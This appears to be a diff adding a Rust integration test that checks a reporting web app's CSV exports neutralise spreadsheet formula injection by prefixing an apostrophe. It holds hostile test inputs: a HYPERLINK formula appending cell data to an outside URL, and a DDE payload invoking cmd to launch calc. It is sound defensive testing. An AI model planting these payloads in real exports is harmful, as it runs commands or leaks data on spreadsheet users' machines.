@@ -607,3 +607,187 @@ async fn pages_speak_the_language_asked_for() {
         "{html}"
     );
 }
+
+/// Text a spreadsheet would run as a formula reaches every CSV as text: a
+/// member of the public's notes in the reports CSV, a tactical lead's
+/// rejection reason in the admin's audit CSV, a file's rows in its rejects
+/// CSV (served and written beside the file). Numbers stay numbers, and
+/// GeoJSON carries the text as sent.
+#[tokio::test]
+async fn formulas_reach_every_csv_as_text() {
+    let (app, mut beside, _) = app_with(generous());
+    let formula = "=HYPERLINK(\"http://example.org/?\"&A2,\"open\")";
+    for notes in [formula, "second"] {
+        let form = open_form(&app, "en").await;
+        let fields = format!(
+            "venue_type=car_wash&postcode=PE13+1AA&observed_on=2024-05-01&notes={}",
+            urlencoding(notes)
+        );
+        let sent = send(app.clone(), submission(&form, "en", &fields)).await;
+        assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.text());
+    }
+    let queued = beside.public_reports(true).expect("queue");
+    let id_of = |text: &str| {
+        (queued.iter())
+            .find(|r| r.record.contains(text))
+            .map(|r| r.id)
+            .expect("queued")
+    };
+    let (first, second) = (id_of("HYPERLINK"), id_of("second"));
+    let decide = |path: String, body: &str| {
+        Request::post(path)
+            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+            .header(header::COOKIE, "hs_session=session-tactical")
+            .body(Body::from(format!("{body}&csrf=csrf-tactical")))
+            .expect("request")
+    };
+    let accepted = send(
+        app.clone(),
+        decide(
+            format!("/triage/{first}/accept"),
+            "venue_type=car_wash&precision=outward",
+        ),
+    )
+    .await;
+    assert_eq!(
+        accepted.status,
+        StatusCode::SEE_OTHER,
+        "{}",
+        accepted.text()
+    );
+    let reason = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let rejected = send(
+        app.clone(),
+        decide(
+            format!("/triage/{second}/reject"),
+            &format!("reason={}", urlencoding(reason)),
+        ),
+    )
+    .await;
+    assert_eq!(
+        rejected.status,
+        StatusCode::SEE_OTHER,
+        "{}",
+        rejected.text()
+    );
+
+    let csv_rows = |body: &[u8]| -> Vec<std::collections::HashMap<String, String>> {
+        let mut reader = csv::Reader::from_reader(body);
+        let header = reader.headers().expect("header").clone();
+        (reader.records())
+            .map(|r| {
+                let r = r.expect("row");
+                (header.iter().map(str::to_owned))
+                    .zip(r.iter().map(str::to_owned))
+                    .collect()
+            })
+            .collect()
+    };
+    let tactical = Some("hs_session=session-tactical");
+    let reports = get(&app, "/api/v1/layers/reports?format=csv", tactical).await;
+    assert_eq!(reports.status, StatusCode::OK);
+    let rows = csv_rows(&reports.body);
+    assert_eq!(rows.len(), 1);
+    assert_eq!(rows[0]["notes"], format!("'{formula}"));
+    let fc = get(&app, "/api/v1/layers/reports", tactical).await.json();
+    assert_eq!(fc["features"][0]["properties"]["notes"], formula);
+
+    let audit = get(
+        &app,
+        "/admin/audit?format=csv",
+        Some("hs_session=session-admin"),
+    )
+    .await;
+    assert_eq!(audit.status, StatusCode::OK);
+    let rows = csv_rows(&audit.body);
+    let entry = (rows.iter())
+        .find(|r| r["action"] == "triage_reject")
+        .expect("the rejection is audited");
+    assert_eq!(entry["detail"], format!("'{reason}"));
+
+    // A file whose bad row starts with a formula, and one at a western
+    // longitude: the rejects CSV beside it and the one served say both as
+    // text, and the good row's negative longitude stays a number.
+    let dir = tempfile::tempdir().expect("dir");
+    let file = dir.path().join("sent.csv");
+    std::fs::write(
+        &file,
+        "lng,lat,report_id,observed_on,venue_type\n\
+         -1.5491,53.8008,L1,2024-03-01,car_wash\n\
+         -1.5491,north,L2,2024-03-01,car_wash\n\
+         =1+1,53.8,L3,2024-03-01,car_wash\n",
+    )
+    .expect("write");
+    let loaded = hotspots::load(
+        &mut beside,
+        hotspots::Input::Path(file),
+        &hotspots::LoadOptions::default(),
+        None,
+    )
+    .expect("load");
+    assert_eq!((loaded.counts.stored, loaded.counts.rejected), (1, 2));
+    let beside_file = std::fs::read(loaded.rejects_csv.expect("rejects file")).expect("read");
+    let run = beside.runs(None, 1).expect("runs")[0].run_id;
+    let served = get(&app, &format!("/loads/{run}/rejects.csv"), tactical).await;
+    assert_eq!(served.status, StatusCode::OK);
+    for (what, body) in [
+        ("beside the file", &beside_file[..]),
+        ("served", &served.body[..]),
+    ] {
+        let rows = csv_rows(body);
+        let raws: Vec<&str> = rows.iter().map(|r| r["raw"].as_str()).collect();
+        assert_eq!(
+            raws,
+            [
+                "'-1.5491,north,L2,2024-03-01,car_wash",
+                "'=1+1,53.8,L3,2024-03-01,car_wash"
+            ],
+            "{what}"
+        );
+        assert_eq!(rows[1]["line"], "4", "{what}");
+    }
+    let csv = get(
+        &app,
+        "/api/v1/layers/reports?format=csv&from=2024-01-01&to=2024-12-31",
+        tactical,
+    )
+    .await;
+    let rows = csv_rows(&csv.body);
+    let leeds = (rows.iter())
+        .find(|r| r["report_id"] == "L1")
+        .unwrap_or_else(|| panic!("L1 in {rows:?}"));
+    assert_eq!(leeds["lng"].parse::<f64>().ok(), Some(-1.5491));
+
+    // A register's names and addresses, in the premises CSV.
+    let register = "premises_id,name,address,venue_type,lat,lng\n\
+                    P1,=Wash(1),+44 Kirkgate,car_wash,53.8008,-1.5491\n";
+    hotspots::ingest::import_premises(
+        &mut beside,
+        hotspots::Input::Reader {
+            name: "register.csv".into(),
+            reader: Box::new(std::io::Cursor::new(register.as_bytes().to_vec())),
+        },
+        &hotspots::LoadOptions {
+            no_rejects_file: true,
+            ..hotspots::LoadOptions::default()
+        },
+    )
+    .expect("register");
+    hotspots::premises::relink(&mut beside, None).expect("relink");
+    let premises = get(&app, "/api/v1/premises?format=csv&min_reports=1", tactical).await;
+    assert_eq!(premises.status, StatusCode::OK, "{}", premises.text());
+    let rows = csv_rows(&premises.body);
+    let p1 = (rows.iter())
+        .find(|r| r["premises_id"] == "P1")
+        .unwrap_or_else(|| panic!("P1 in {rows:?}"));
+    assert_eq!(
+        (p1["name"].as_str(), p1["address"].as_str()),
+        ("'=Wash(1)", "'+44 Kirkgate")
+    );
+    assert_eq!(p1["lng"].parse::<f64>().ok(), Some(-1.5491));
+}
+
+/// `value` as a form sends it.
+fn urlencoding(value: &str) -> String {
+    serde_urlencoded::to_string([("v", value)]).expect("encode")[2..].to_owned()
+}
